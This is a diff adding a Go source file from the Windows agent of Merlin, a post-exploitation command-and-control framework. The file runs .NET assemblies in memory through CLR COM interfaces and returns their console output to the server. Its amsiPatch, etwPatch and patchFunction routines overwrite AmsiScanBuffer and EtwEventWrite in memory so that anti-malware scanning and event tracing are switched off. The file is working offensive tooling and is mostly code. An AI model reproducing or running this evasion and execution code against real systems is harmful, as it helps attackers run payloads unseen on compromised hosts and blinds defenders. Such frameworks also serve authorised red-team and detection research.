@@ -0,0 +1,518 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"runtime"
+	"strings"
+	"sync"
+	"syscall"
+	"unsafe"
+
+	// Sub Repositories
+	"golang.org/x/sys/windows"
+)
+
+const (
+	// VT_EMPTY is the VARIANT type for no value
+	VT_EMPTY = 0
+	// VT_NULL is the VARIANT type for a null value
+	VT_NULL = 1
+	// VT_BSTR is the VARIANT type for a length prefixed UTF-16 string
+	VT_BSTR = 8
+	// VT_VARIANT is the SAFEARRAY element type for VARIANTs
+	VT_VARIANT = 12
+	// VT_UI1 is the SAFEARRAY element type for bytes
+	VT_UI1 = 17
+	// VT_ARRAY is the VARIANT type flag for a SAFEARRAY of the other type
+	VT_ARRAY = 0x2000
+	// LOAD_LIBRARY_SEARCH_SYSTEM32 makes LoadLibraryEx only search the System32 directory for the module
+	LOAD_LIBRARY_SEARCH_SYSTEM32 = 0x00000800
+)
+
+// Method indexes in the virtual function tables of the CLR hosting and reflection COM interfaces
+const (
+	iUnknownQueryInterface      = 0
+	iUnknownRelease             = 2
+	iCLRMetaHostGetRuntime      = 3
+	iCLRRuntimeInfoGetInterface = 9
+	iCorRuntimeHostStart        = 10
+	iCorRuntimeHostCreateDomain = 12
+	iCorRuntimeHostGetDefault   = 13
+	iCorRuntimeHostUnloadDomain = 20
+	iAppDomainLoad3             = 45
+	iAssemblyGetEntryPoint      = 16
+	iMethodInfoToString         = 7
+	iMethodInfoInvoke3          = 37
+)
+
+// assemblyOutputPipeSize is the buffer size requested for the pipe that captures an assembly's console output
+const assemblyOutputPipeSize = 1 << 20
+
+// The COM class and interface identifiers used to host the CLR, the runtime versions tried in order, and the state
+// shared by every assembly execution
+var (
+	clsidCLRMetaHost     = windows.GUID{Data1: 0x9280188d, Data2: 0x0e8e, Data3: 0x4867, Data4: [8]byte{0xb3, 0x0c, 0x7f, 0xa8, 0x38, 0x84, 0xe8, 0xde}}
+	iidICLRMetaHost      = windows.GUID{Data1: 0xd332db9e, Data2: 0xb9b3, Data3: 0x4125, Data4: [8]byte{0x82, 0x07, 0xa1, 0x48, 0x84, 0xf5, 0x32, 0x16}}
+	iidICLRRuntimeInfo   = windows.GUID{Data1: 0xbd39d1d2, Data2: 0xba2f, Data3: 0x486a, Data4: [8]byte{0x89, 0xb0, 0xb4, 0xb0, 0xcb, 0x46, 0x68, 0x91}}
+	clsidCorRuntimeHost  = windows.GUID{Data1: 0xcb2f6723, Data2: 0xab3a, Data3: 0x11d2, Data4: [8]byte{0x9c, 0x40, 0x00, 0xc0, 0x4f, 0xa3, 0x0a, 0x3e}}
+	iidICorRuntimeHost   = windows.GUID{Data1: 0xcb2f6722, Data2: 0xab3a, Data3: 0x11d2, Data4: [8]byte{0x9c, 0x40, 0x00, 0xc0, 0x4f, 0xa3, 0x0a, 0x3e}}
+	iidAppDomain         = windows.GUID{Data1: 0x05f696dc, Data2: 0x2b29, Data3: 0x3663, Data4: [8]byte{0xad, 0x8b, 0xc4, 0x38, 0x9c, 0xf2, 0xa7, 0x13}}
+	clrRuntimeVersions   = []string{"v4.0.30319", "v2.0.50727"}
+	assemblyOutputPipe   *outputPipe
+	assemblyOutputErr    error
+	assemblyOutputOnce   sync.Once
+	assemblyExecuteMutex sync.Mutex
+)
+
+// variant is the OLE Automation VARIANT structure; the value is two pointers wide on 64-bit Windows
+type variant struct {
+	vt        uint16
+	reserved1 uint16
+	reserved2 uint16
+	reserved3 uint16
+	val       uintptr
+	val2      uintptr
+}
+
+// outputPipe is the pipe the process' standard output and standard error handles are pointed at so the console output
+// of a .NET assembly can be returned to the server. The CLR keeps the handle it finds the first time an application
+// domain uses the console, so the pipe stays in place once it is created.
+type outputPipe struct {
+	sync.Mutex
+	cond  *sync.Cond
+	write windows.Handle
+	data  []byte
+	err   error // err is why the pipe could no longer be read
+}
+
+// executeAssembly runs the entry point of a .NET assembly in memory with the CLR and returns its console output. The
+// assembly is loaded into a new application domain, unloaded afterwards, when a name is provided, and into the
+// default domain otherwise. AmsiScanBuffer and EtwEventWrite are patched in the agent's process first when requested.
+func executeAssembly(assembly []byte, args []string, appDomain string, amsi bool, etw bool) (string, error) {
+	assemblyExecuteMutex.Lock()
+	defer assemblyExecuteMutex.Unlock()
+	// The CLR tracks its state per thread
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	if len(assembly) == 0 {
+		return "", errors.New("the assembly is empty")
+	}
+	domain, notes, release, err := clrDomain(appDomain, amsi, etw)
+	if err != nil {
+		return "", err
+	}
+	defer release()
+
+	raw, err := byteSafeArray(assembly)
+	if err != nil {
+		return "", err
+	}
+	defer destroySafeArray(raw)
+	var loaded uintptr
+	if err = comCall(domain, iAppDomainLoad3, raw, uintptr(unsafe.Pointer(&loaded))); err != nil {
+		return "", fmt.Errorf("there was an error loading the assembly; it must be a .NET assembly for the %s runtime:\r\n%s",
+			strings.Join(clrRuntimeVersions, " or "), err.Error())
+	}
+	defer comRelease(loaded)
+
+	var entryPoint uintptr
+	if err = comCall(loaded, iAssemblyGetEntryPoint, uintptr(unsafe.Pointer(&entryPoint))); err != nil || entryPoint == 0 {
+		return "", errors.New("the assembly does not have an entry point; it must be an executable, not a library")
+	}
+	defer comRelease(entryPoint)
+
+	// Main takes the arguments as a string array unless it was declared without parameters
+	var parameters uintptr
+	var signature uintptr
+	if err = comCall(entryPoint, iMethodInfoToString, uintptr(unsafe.Pointer(&signature))); err != nil {
+		return "", fmt.Errorf("there was an error getting the entry point's signature:\r\n%s", err.Error())
+	}
+	if !strings.HasSuffix(bstrString(signature), "()") {
+		if parameters, err = argumentsSafeArray(args); err != nil {
+			return "", err
+		}
+		defer destroySafeArray(parameters)
+	}
+	sysFreeString(signature)
+
+	var result variant
+	obj := variant{vt: VT_NULL}
+	if unsafe.Sizeof(obj) > 16 {
+		// A VARIANT is larger than 16 bytes on 64-bit Windows so it is passed by reference
+		err = comCall(entryPoint, iMethodInfoInvoke3, uintptr(unsafe.Pointer(&obj)), parameters, uintptr(unsafe.Pointer(&result)))
+	} else {
+		words := (*[4]uintptr)(unsafe.Pointer(&obj))
+		err = comCall(entryPoint, iMethodInfoInvoke3, words[0], words[1], words[2], words[3], parameters, uintptr(unsafe.Pointer(&result)))
+	}
+	output, errOutput := assemblyOutputPipe.collect()
+	if errOutput != nil {
+		notes += errOutput.Error() + "\r\n"
+	}
+	if err != nil {
+		return notes + output, fmt.Errorf("the assembly's entry point threw an exception:\r\n%s", err.Error())
+	}
+	return notes + output, nil
+}
+
+// clrDomain patches AMSI and ETW when requested, redirects the console to the output pipe, and returns the _AppDomain
+// interface of a new application domain with the provided name or of the default domain. The notes describe any
+// patch that was not applied and the release function releases the domain, unloading it if it was created.
+func clrDomain(appDomain string, amsi bool, etw bool) (domain uintptr, notes string, release func(), err error) {
+	if amsi {
+		patched, err := patchFunction("amsi.dll", "AmsiScanBuffer", amsiPatch())
+		if err != nil {
+			return 0, "", nil, err
+		}
+		if !patched {
+			notes += "amsi.dll is not on this host; AMSI was not patched\r\n"
+		}
+	}
+	if etw {
+		if _, err = patchFunction("ntdll.dll", "EtwEventWrite", etwPatch()); err != nil {
+			return 0, "", nil, err
+		}
+	}
+
+	assemblyOutputOnce.Do(func() {
+		assemblyOutputPipe, assemblyOutputErr = newOutputPipe()
+	})
+	if assemblyOutputErr != nil {
+		return 0, "", nil, assemblyOutputErr
+	}
+
+	host, err := corRuntimeHost()
+	if err != nil {
+		return 0, "", nil, err
+	}
+	var unknown uintptr
+	if appDomain != "" {
+		name, errName := windows.UTF16PtrFromString(appDomain)
+		if errName != nil {
+			comRelease(host)
+			return 0, "", nil, fmt.Errorf("there was an error converting the AppDomain name %s:\r\n%s", appDomain, errName.Error())
+		}
+		if err = comCall(host, iCorRuntimeHostCreateDomain, uintptr(unsafe.Pointer(name)), 0, uintptr(unsafe.Pointer(&unknown))); err != nil {
+			comRelease(host)
+			return 0, "", nil, fmt.Errorf("there was an error creating the %s AppDomain:\r\n%s", appDomain, err.Error())
+		}
+	} else if err = comCall(host, iCorRuntimeHostGetDefault, uintptr(unsafe.Pointer(&unknown))); err != nil {
+		comRelease(host)
+		return 0, "", nil, fmt.Errorf("there was an error getting the default AppDomain:\r\n%s", err.Error())
+	}
+	release = func() {
+		comRelease(domain)
+		if appDomain != "" {
+			_ = comCall(host, iCorRuntimeHostUnloadDomain, unknown)
+		}
+		comRelease(unknown)
+		comRelease(host)
+	}
+	if err = comCall(unknown, iUnknownQueryInterface, uintptr(unsafe.Pointer(&iidAppDomain)), uintptr(unsafe.Pointer(&domain))); err != nil {
+		release()
+		return 0, "", nil, fmt.Errorf("there was an error getting the AppDomain interface:\r\n%s", err.Error())
+	}
+	return domain, notes, release, nil
+}
+
+// corRuntimeHost loads and starts the newest CLR available and returns its ICorRuntimeHost interface
+func corRuntimeHost() (uintptr, error) {
+	mscoree := windows.NewLazySystemDLL("mscoree.dll")
+	CLRCreateInstance := mscoree.NewProc("CLRCreateInstance")
+	if err := CLRCreateInstance.Find(); err != nil {
+		return 0, fmt.Errorf("the .NET Framework is not installed:\r\n%s", err.Error())
+	}
+	var metaHost uintptr
+	hr, _, _ := CLRCreateInstance.Call(uintptr(unsafe.Pointer(&clsidCLRMetaHost)), uintptr(unsafe.Pointer(&iidICLRMetaHost)), uintptr(unsafe.Pointer(&metaHost)))
+	if int32(hr) < 0 {
+		return 0, fmt.Errorf("there was an error creating the CLR meta host: HRESULT 0x%08x", uint32(hr))
+	}
+	defer comRelease(metaHost)
+
+	var runtimeInfo uintptr
+	var err error
+	for _, version := range clrRuntimeVersions {
+		v, errV := windows.UTF16PtrFromString(version)
+		if errV != nil {
+			return 0, errV
+		}
+		if err = comCall(metaHost, iCLRMetaHostGetRuntime, uintptr(unsafe.Pointer(v)), uintptr(unsafe.Pointer(&iidICLRRuntimeInfo)), uintptr(unsafe.Pointer(&runtimeInfo))); err == nil {
+			break
+		}
+	}
+	if err != nil {
+		return 0, fmt.Errorf("there was an error getting a CLR runtime:\r\n%s", err.Error())
+	}
+	defer comRelease(runtimeInfo)
+
+	var host uintptr
+	if err = comCall(runtimeInfo, iCLRRuntimeInfoGetInterface, uintptr(unsafe.Pointer(&clsidCorRuntimeHost)), uintptr(unsafe.Pointer(&iidICorRuntimeHost)), uintptr(unsafe.Pointer(&host))); err != nil {
+		return 0, fmt.Errorf("there was an error getting the CLR runtime host:\r\n%s", err.Error())
+	}
+	// Start returns S_FALSE when the runtime was already started
+	if err = comCall(host, iCorRuntimeHostStart); err != nil {
+		comRelease(host)
+		return 0, fmt.Errorf("there was an error starting the CLR:\r\n%s", err.Error())
+	}
+	return host, nil
+}
+
+//go:uintptrescapes
+
+// comCall calls the method at the index of the COM object's virtual function table and returns an error for a
+// failed HRESULT. Memory converted to a uintptr in the call's arguments is kept in place until the call returns.
+func comCall(object uintptr, method int, args ...uintptr) error {
+	var a [9]uintptr
+	a[0] = object
+	n := copy(a[1:], args) + 1
+	vtbl := *(*uintptr)(toPointer(object))
+	function := *(*uintptr)(toPointer(vtbl + uintptr(method)*unsafe.Sizeof(vtbl)))
+	hr, _, _ := syscall.Syscall9(function, uintptr(n), a[0], a[1], a[2], a[3], a[4], a[5], a[6], a[7], a[8])
+	if int32(hr) < 0 {
+		return fmt.Errorf("HRESULT 0x%08x", uint32(hr))
+	}
+	return nil
+}
+
+// comRelease releases a reference to the COM object
+func comRelease(object uintptr) {
+	if object != 0 {
+		_ = comCall(object, iUnknownRelease)
+	}
+}
+
+// byteSafeArray returns a SAFEARRAY of bytes holding a copy of the data
+func byteSafeArray(data []byte) (uintptr, error) {
+	oleaut32 := windows.NewLazySystemDLL("oleaut32.dll")
+	SafeArrayCreateVector := oleaut32.NewProc("SafeArrayCreateVector")
+	SafeArrayAccessData := oleaut32.NewProc("SafeArrayAccessData")
+	SafeArrayUnaccessData := oleaut32.NewProc("SafeArrayUnaccessData")
+
+	array, _, err := SafeArrayCreateVector.Call(VT_UI1, 0, uintptr(len(data)))
+	if array == 0 {
+		return 0, fmt.Errorf("there was an error creating the assembly SAFEARRAY:\r\n%s", err.Error())
+	}
+	var address uintptr
+	if hr, _, _ := SafeArrayAccessData.Call(array, uintptr(unsafe.Pointer(&address))); int32(hr) < 0 {
+		destroySafeArray(array)
+		return 0, fmt.Errorf("there was an error accessing the assembly SAFEARRAY: HRESULT 0x%08x", uint32(hr))
+	}
+	copy((*[1 << 30]byte)(toPointer(address))[:len(data):len(data)], data)
+	_, _, _ = SafeArrayUnaccessData.Call(array)
+	return array, nil
+}
+
+// argumentsSafeArray returns the SAFEARRAY of VARIANTs passed to Main(string[] args): one VARIANT holding a SAFEARRAY
+// of BSTRs
+func argumentsSafeArray(args []string) (uintptr, error) {
+	oleaut32 := windows.NewLazySystemDLL("oleaut32.dll")
+	SafeArrayCreateVector := oleaut32.NewProc("SafeArrayCreateVector")
+	SafeArrayPutElement := oleaut32.NewProc("SafeArrayPutElement")
+
+	strs, _, err := SafeArrayCreateVector.Call(VT_BSTR, 0, uintptr(len(args)))
+	if strs == 0 {
+		return 0, fmt.Errorf("there was an error creating the arguments SAFEARRAY:\r\n%s", err.Error())
+	}
+	// SafeArrayPutElement copies the BSTR and the VARIANT's array, so the originals are freed here
+	defer destroySafeArray(strs)
+	for i, arg := range args {
+		bstr, err := sysAllocString(arg)
+		if err != nil {
+			return 0, err
+		}
+		index := int32(i)
+		hr, _, _ := SafeArrayPutElement.Call(strs, uintptr(unsafe.Pointer(&index)), bstr)
+		sysFreeString(bstr)
+		if int32(hr) < 0 {
+			return 0, fmt.Errorf("there was an error adding argument %d to the SAFEARRAY: HRESULT 0x%08x", i, uint32(hr))
+		}
+	}
+
+	return variantSafeArray([]variant{{vt: VT_ARRAY | VT_BSTR, val: strs}})
+}
+
+// variantSafeArray returns a SAFEARRAY of VARIANTs holding copies of the values
+func variantSafeArray(values []variant) (uintptr, error) {
+	oleaut32 := windows.NewLazySystemDLL("oleaut32.dll")
+	SafeArrayCreateVector := oleaut32.NewProc("SafeArrayCreateVector")
+	SafeArrayPutElement := oleaut32.NewProc("SafeArrayPutElement")
+
+	array, _, err := SafeArrayCreateVector.Call(VT_VARIANT, 0, uintptr(len(values)))
+	if array == 0 {
+		return 0, fmt.Errorf("there was an error creating the VARIANT SAFEARRAY:\r\n%s", err.Error())
+	}
+	for i := range values {
+		index := int32(i)
+		if hr, _, _ := SafeArrayPutElement.Call(array, uintptr(unsafe.Pointer(&index)), uintptr(unsafe.Pointer(&values[i]))); int32(hr) < 0 {
+			destroySafeArray(array)
+			return 0, fmt.Errorf("there was an error adding a VARIANT to the SAFEARRAY: HRESULT 0x%08x", uint32(hr))
+		}
+	}
+	return array, nil
+}
+
+// destroySafeArray frees a SAFEARRAY and the data it holds
+func destroySafeArray(array uintptr) {
+	_, _, _ = windows.NewLazySystemDLL("oleaut32.dll").NewProc("SafeArrayDestroy").Call(array)
+}
+
+// sysAllocString returns a BSTR copy of the string
+func sysAllocString(s string) (uintptr, error) {
+	p, err := windows.UTF16PtrFromString(s)
+	if err != nil {
+		return 0, fmt.Errorf("there was an error converting %s to UTF-16:\r\n%s", s, err.Error())
+	}
+	bstr, _, errAlloc := windows.NewLazySystemDLL("oleaut32.dll").NewProc("SysAllocString").Call(uintptr(unsafe.Pointer(p)))
+	if bstr == 0 {
+		return 0, fmt.Errorf("there was an error allocating a BSTR:\r\n%s", errAlloc.Error())
+	}
+	return bstr, nil
+}
+
+// sysFreeString frees a BSTR
+func sysFreeString(bstr uintptr) {
+	if bstr != 0 {
+		_, _, _ = windows.NewLazySystemDLL("oleaut32.dll").NewProc("SysFreeString").Call(bstr)
+	}
+}
+
+// bstrString returns the Go string for a BSTR; its length in bytes is stored before the characters
+func bstrString(bstr uintptr) string {
+	if bstr == 0 {
+		return ""
+	}
+	length := *(*uint32)(toPointer(bstr - 4)) / 2
+	return windows.UTF16ToString((*[1 << 29]uint16)(toPointer(bstr))[:length:length])
+}
+
+// amsiPatch returns instructions that make AmsiScanBuffer return E_INVALIDARG without scanning
+func amsiPatch() []byte {
+	if runtime.GOARCH == "386" {
+		// mov eax, 0x80070057; ret 0x18
+		return []byte{0xb8, 0x57, 0x00, 0x07, 0x80, 0xc2, 0x18, 0x00}
+	}
+	// mov eax, 0x80070057; ret
+	return []byte{0xb8, 0x57, 0x00, 0x07, 0x80, 0xc3}
+}
+
+// etwPatch returns instructions that make EtwEventWrite return success without writing the event
+func etwPatch() []byte {
+	if runtime.GOARCH == "386" {
+		// xor eax, eax; ret 0x14
+		return []byte{0x33, 0xc0, 0xc2, 0x14, 0x00}
+	}
+	// xor rax, rax; ret
+	return []byte{0x48, 0x33, 0xc0, 0xc3}
+}
+
+// patchFunction overwrites the start of a function exported by a module loaded in the agent's process. It returns false
+// without an error when the module does not exist on the host.
+func patchFunction(module string, function string, patch []byte) (bool, error) {
+	handle, err := windows.LoadLibraryEx(module, 0, LOAD_LIBRARY_SEARCH_SYSTEM32)
+	if err != nil {
+		return false, nil
+	}
+	address, err := windows.GetProcAddress(handle, function)
+	if err != nil {
+		return false, fmt.Errorf("there was an error finding %s in %s:\r\n%s", function, module, err.Error())
+	}
+	code := (*[1 << 30]byte)(toPointer(address))[:len(patch):len(patch)]
+	if bytes.Equal(code, patch) {
+		return true, nil
+	}
+	var old uint32
+	if err = windows.VirtualProtect(address, uintptr(len(patch)), windows.PAGE_EXECUTE_READWRITE, &old); err != nil {
+		return false, fmt.Errorf("there was an error making %s writable:\r\n%s", function, err.Error())
+	}
+	copy(code, patch)
+	if err = windows.VirtualProtect(address, uintptr(len(patch)), old, &old); err != nil {
+		return true, fmt.Errorf("there was an error restoring the memory protection of %s:\r\n%s", function, err.Error())
+	}
+	return true, nil
+}
+
+// newOutputPipe creates the pipe, points the standard output and standard error handles at it, and starts reading it
+func newOutputPipe() (*outputPipe, error) {
+	var read windows.Handle
+	o := &outputPipe{}
+	o.cond = sync.NewCond(o)
+	if err := windows.CreatePipe(&read, &o.write, nil, assemblyOutputPipeSize); err != nil {
+		return nil, fmt.Errorf("there was an error creating the assembly output pipe:\r\n%s", err.Error())
+	}
+	for _, std := range []uint32{windows.STD_OUTPUT_HANDLE, windows.STD_ERROR_HANDLE} {
+		if err := windows.SetStdHandle(std, o.write); err != nil {
+			return nil, fmt.Errorf("there was an error redirecting the console to the assembly output pipe:\r\n%s", err.Error())
+		}
+	}
+	go func() {
+		b := make([]byte, 64<<10)
+		for {
+			var n uint32
+			err := windows.ReadFile(read, b, &n, nil)
+			o.Lock()
+			o.data = append(o.data, b[:n]...)
+			if err != nil {
+				o.err = fmt.Errorf("there was an error reading the assembly output pipe:\r\n%s", err.Error())
+			}
+			o.cond.Broadcast()
+			o.Unlock()
+			if err != nil {
+				return
+			}
+		}
+	}()
+	return o, nil
+}
+
+// collect returns the output written to the pipe since the last call. A random marker is written to the pipe and the
+// output is read up to it, so everything the assembly wrote before returning is included.
+func (o *outputPipe) collect() (string, error) {
+	r := make([]byte, 16)
+	if _, err := rand.Read(r); err != nil {
+		return "", err
+	}
+	marker := []byte(hex.EncodeToString(r))
+	var n uint32
+	if err := windows.WriteFile(o.write, marker, &n, nil); err != nil {
+		return "", fmt.Errorf("there was an error writing to the assembly output pipe:\r\n%s", err.Error())
+	}
+
+	o.Lock()
+	defer o.Unlock()
+	for !bytes.Contains(o.data, marker) && o.err == nil {
+		o.cond.Wait()
+	}
+	i := bytes.Index(o.data, marker)
+	if i < 0 {
+		output := string(o.data)
+		o.data = nil
+		return output, o.err
+	}
+	output := string(o.data[:i])
+	o.data = append(o.data[:0], o.data[i+len(marker):]...)
+	return output, nil
+}